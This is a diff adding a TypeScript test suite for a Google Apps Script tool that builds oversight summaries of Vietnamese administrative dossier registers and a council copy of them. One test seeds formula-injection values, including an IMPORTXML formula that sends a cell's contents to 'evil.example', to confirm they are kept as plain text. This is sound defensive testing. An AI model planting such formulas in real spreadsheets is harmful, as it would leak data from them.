@@ -1,0 +1,232 @@
+/** Review 10 (a fresh-context review of the oversight summary and the council copy): each test was a defect found, fixed since. */
+import type { Spreadsheet } from '../../src/gas/services';
+import { buildSummary, UNITS_HEADERS } from '../../src/server/summary/build';
+import { shareWithCouncil } from '../../src/server/summary/council';
+import { REGISTER_COLUMNS, TABS } from '../../src/sheets/schema';
+import { readyUnit, registerColumn as col } from '../helpers';
+
+const vn = (date: string, hhmm = '17:00') => new Date(`${date}T${hhmm}:00+07:00`);
+
+type Row = (string | number | Date)[];
+/** `n` dossiers received 02/03/2026 due 06/03; `tweak` may change each row. */
+function fillRegister(ss: Spreadsheet, unit: string, n: number, tweak: (row: Row, i: number) => void = () => {}): void {
+  const sheet = ss.getSheetByName(TABS.register) ?? ss.insertSheet(TABS.register);
+  if (sheet.getMaxColumns() < REGISTER_COLUMNS.length)
+    sheet.insertColumnsAfter(sheet.getMaxColumns(), REGISTER_COLUMNS.length - sheet.getMaxColumns());
+  sheet.getRange(1, 1, 1, REGISTER_COLUMNS.length).setValues([[...REGISTER_COLUMNS]]);
+  if (sheet.getMaxRows() < n + 1) sheet.insertRowsAfter(sheet.getMaxRows(), n + 1 - sheet.getMaxRows());
+  const rows = Array.from({ length: n }, (_, i) => {
+    const row: Row = Array(REGISTER_COLUMNS.length).fill('');
+    row[col('Mã hồ sơ') - 1] = `000.17.22.H56-260302-${String(i + 1).padStart(4, '0')}`;
+    row[col('Tên thủ tục') - 1] = 'Đăng ký khai sinh';
+    row[col('Lĩnh vực') - 1] = 'Hộ tịch';
+    row[col('Đơn vị tiếp nhận') - 1] = unit;
+    row[col('Người nộp') - 1] = `Công Dân Bí Mật ${i}`;
+    row[col('Hình thức nộp') - 1] = 'Trực tiếp';
+    row[col('Thời điểm tiếp nhận') - 1] = vn('2026-03-02', '08:00');
+    row[col('Hạn trả kết quả') - 1] = vn('2026-03-06');
+    row[col('Trạng thái') - 1] = 'Đang giải quyết';
+    tweak(row, i);
+    return row;
+  });
+  if (n > 0) sheet.getRange(2, 1, n, REGISTER_COLUMNS.length).setValues(rows);
+}
+
+const PERIOD = { from: '2026-02-15', to: '2026-03-14' };
+
+describe('review 10', () => {
+  it('writes the summary even when more than ~1000 rows could not be classified (sheet grid is 1000 rows)', () => {
+    const { run } = readyUnit(vn('2026-03-20', '09:00'));
+    run((_s, ss) =>
+      fillRegister(ss, 'UBND xã Yên Lạc', 1500, (row, i) => {
+        if (i % 3 > 0) row[col('Thời điểm tiếp nhận') - 1] = '02-03-2026'; // exported as text in another format
+      }),
+    );
+    const answer = run((s) => buildSummary(s, { ...PERIOD, scope: 'this' }));
+    expect(answer).toMatchObject({ ok: true });
+  });
+
+  /** An oversight workbook whose `Đơn vị` tab lists the given registers (name, reference). */
+  function oversight(
+    registers: { name: string; size: number; tweak?: (row: Row, i: number) => void }[],
+    refs?: (ids: string[]) => string[][],
+  ) {
+    const unit = readyUnit(vn('2026-03-20', '09:00'));
+    const { world, run } = unit;
+    const ids: string[] = [];
+    for (const r of registers) {
+      const book = world.createSpreadsheetData(`Sổ ${r.name}`, 'canbo@example.gov.vn');
+      world.run({ user: 'canbo@example.gov.vn', spreadsheetId: book.id }, (s) =>
+        fillRegister(s.spreadsheetApp.getActiveSpreadsheet()!, r.name, r.size, r.tweak),
+      );
+      ids.push(book.id);
+    }
+    run((_s, ss) => {
+      const tab = ss.insertSheet(TABS.units);
+      tab.getRange(1, 1, 1, UNITS_HEADERS.length).setValues([[...UNITS_HEADERS]]);
+      const rows = refs ? refs(ids) : ids.map((id, i) => [registers[i]!.name, 'Cấp xã', id, '']);
+      tab.getRange(2, 1, rows.length, UNITS_HEADERS.length).setValues(rows);
+    });
+    return unit;
+  }
+  const unitsValues = (run: ReturnType<typeof readyUnit>['run']) =>
+    run((_s, ss) => {
+      const sheet = ss.getSheetByName(TABS.summary)!;
+      return sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getValues();
+    });
+
+  it('does not fail the whole consolidation when one register has many unclassifiable rows (checkpoint cell > 50,000 chars)', () => {
+    const { run } = oversight([
+      { name: 'Xã A', size: 10 },
+      { name: 'Xã B', size: 700, tweak: (row) => (row[col('Thời điểm tiếp nhận') - 1] = '02-03-2026') },
+    ]);
+    const answer = run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+    expect(answer).toMatchObject({ ok: true });
+  });
+
+  it('counts a register once when the Đơn vị tab lists it twice (by URL and by id)', () => {
+    const { run } = oversight([{ name: 'Xã A', size: 10 }], (ids) => [
+      ['Xã A', 'Cấp xã', `https://docs.google.com/spreadsheets/d/${ids[0]}/edit`, ''],
+      ['Xã A (trùng)', 'Cấp xã', ids[0]!, ''],
+    ]);
+    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+    const values = unitsValues(run);
+    const total = values.find((r) => r[0] === 'Tổng cộng')!;
+    expect(total[2]).toBe(10);
+  });
+
+  function headUnit(tweak: (row: Row, i: number) => void) {
+    const unit = readyUnit(vn('2026-03-20', '09:00'));
+    unit.run((_s, ss) => {
+      fillRegister(ss, 'UBND xã Yên Lạc', 10, tweak);
+      const config = ss.getSheetByName(TABS.config)!;
+      const keys = config
+        .getRange(1, 1, config.getLastRow(), 1)
+        .getValues()
+        .map((r) => String(r[0]));
+      config.getRange(keys.indexOf('Email thủ trưởng') + 1, 2).setValue('canbo@example.gov.vn');
+      config.getRange(keys.indexOf('Email HĐND (bản chỉ xem)') + 1, 2).setValue('daibieu1@hdnd.vn');
+    });
+    unit.run((s) => buildSummary(s, { ...PERIOD, scope: 'this' }));
+    unit.run((s) => shareWithCouncil(s));
+    const copy = [...unit.world.spreadsheets.values()].find((b) => b.name.startsWith('Báo cáo giải quyết TTHC cho HĐND'))!;
+    const text = JSON.stringify(copy, (_k, v: unknown) => (v instanceof Map ? [...v.entries()] : v instanceof Set ? [...v] : v));
+    return { ...unit, copy, text };
+  }
+
+  it('keeps formulas typed into Lý do chậm, procedure or unit names as text in the summary and the copy', () => {
+    const { copy, run } = headUnit((row, i) => {
+      if (i < 3) {
+        row[col('Trạng thái') - 1] = 'Đã trả kết quả';
+        row[col('Ngày có kết quả') - 1] = vn('2026-03-10', '00:00');
+        row[col('Lý do chậm') - 1] = '=IMPORTXML("https://evil.example/?q="&A1,"//a")';
+        row[col('Tên thủ tục') - 1] = '+HYPERLINK("https://evil.example","x")';
+        row[col('Lĩnh vực') - 1] = '@SUM(1)';
+      }
+    });
+    run((_s, ss) => {
+      const sheet = ss.getSheetByName(TABS.summary)!;
+      const f = sheet.getRange(1, 1, sheet.getLastRow(), sheet.getLastColumn()).getFormulas().flat().filter(Boolean);
+      expect(f).toEqual([]);
+    });
+    expect(copy.sheets.every((s) => s.formulas.size === 0)).toBe(true);
+  });
+
+  it('does not put a citizen’s name or phone typed by mistake into Trạng thái into the council copy (data-quality block)', () => {
+    // A row pasted one column off: the applicant's name and phone land in Trạng thái.
+    const { text } = headUnit((row, i) => {
+      if (i === 4) row[col('Trạng thái') - 1] = 'Nguyễn Thị Bí Mật 0912345678';
+    });
+    expect({ phone: text.includes('0912345678'), name: text.includes('Nguyễn Thị Bí Mật') }).toEqual({
+      phone: false,
+      name: false,
+    });
+  });
+
+  it('opens a register listed by the URL Google shows with several accounts signed in (/spreadsheets/u/1/d/ID)', () => {
+    const { run } = oversight([{ name: 'Xã A', size: 10 }], (ids) => [
+      ['Xã A', 'Cấp xã', `https://docs.google.com/spreadsheets/u/1/d/${ids[0]}/edit#gid=0`, ''],
+    ]);
+    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+    const total = unitsValues(run).find((r) => r[0] === 'Tổng cộng')!;
+    expect(total[2]).toBe(10);
+  });
+
+  it('says in Vietnamese why a register could not be opened (not Google’s English message)', () => {
+    const { run } = oversight([{ name: 'Xã A', size: 3 }], (ids) => [
+      ['Xã A', 'Cấp xã', ids[0]!, ''],
+      ['Xã sai mã', 'Cấp xã', 'khong-co-so-nay', ''],
+    ]);
+    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+    const line = unitsValues(run).find((r) => r[0] === 'Xã sai mã')!;
+    expect(String(line[3])).not.toMatch(/Unexpected error|openById|SpreadsheetApp/);
+  });
+
+  it('re-reads a checkpoint line that is valid JSON but not a part (tab edited by hand) instead of crashing', () => {
+    const { run } = oversight([{ name: 'Xã A', size: 5 }]);
+    const ids = run((_s, ss) => String(ss.getSheetByName(TABS.units)!.getRange(2, 3).getValue()));
+    run((s, ss) => {
+      s.propertiesService
+        .getDocumentProperties()!
+        .setProperty('motcua.summary.request', JSON.stringify({ from: PERIOD.from, to: PERIOD.to, scope: 'units' }));
+      const tab = ss.insertSheet('MotCua – tạm');
+      tab.getRange(1, 1, 1, 2).setValues([[ids, '{"name":"Xã A"}']]);
+    });
+    const answer = run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+    expect(answer).toMatchObject({ ok: true });
+    expect(unitsValues(run).find((r) => r[0] === 'Tổng cộng')![2]).toBe(5);
+  });
+
+  it('groups the units by level (Cấp) of the Đơn vị tab, as Biểu 06 and the seed report do (district vs communes)', () => {
+    const { run } = oversight(
+      [
+        { name: 'Huyện Yên Lạc', size: 4 },
+        { name: 'Xã A', size: 3 },
+        { name: 'Xã B', size: 2 },
+      ],
+      (ids) => [
+        ['Huyện Yên Lạc', 'Cấp huyện', ids[0]!, ''],
+        ['Xã A', 'Cấp xã', ids[1]!, ''],
+        ['Xã B', 'Cấp xã', ids[2]!, ''],
+      ],
+    );
+    run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+    const values = unitsValues(run);
+    // A subtotal line for the communes (5 received) besides the grand total (9).
+    const levelLine = values.find((r) => /Cấp xã/.test(String(r[0])) && r[2] === 5);
+    expect(levelLine).toBeDefined();
+  });
+
+  it('counts each register once whatever service call a run is interrupted at, the rerun continuing', () => {
+    const regs = [
+      { name: 'Xã A', size: 5 },
+      { name: 'Xã B', size: 3 },
+      { name: 'Xã C', size: 2 },
+    ];
+    const probe = oversight(regs);
+    probe.world.runtime.resetCounters();
+    probe.run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+    const calls = probe.world.runtime.totalCalls();
+    const bad: unknown[] = [];
+    for (let n = 1; n <= calls; n += 1) {
+      const { world, run } = oversight(regs);
+      let count = 0;
+      world.runtime.onCall = () => {
+        count += 1;
+        if (count === n) throw new Error('Exceeded maximum execution time');
+      };
+      try {
+        run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+      } catch {
+        // interrupted
+      }
+      world.runtime.onCall = undefined;
+      run((s) => buildSummary(s, { ...PERIOD, scope: 'units' }));
+      const values = unitsValues(run);
+      const total = values.find((r) => r[0] === 'Tổng cộng')![2];
+      const lines = values.filter((r) => /^Xã [ABC]$/.test(String(r[0])) && r[1] === 'Cấp xã').length;
+      if (total !== 10 || lines !== 3) bad.push({ n, total, lines });
+    }
+    expect(bad).toEqual([]);
+  });
+});
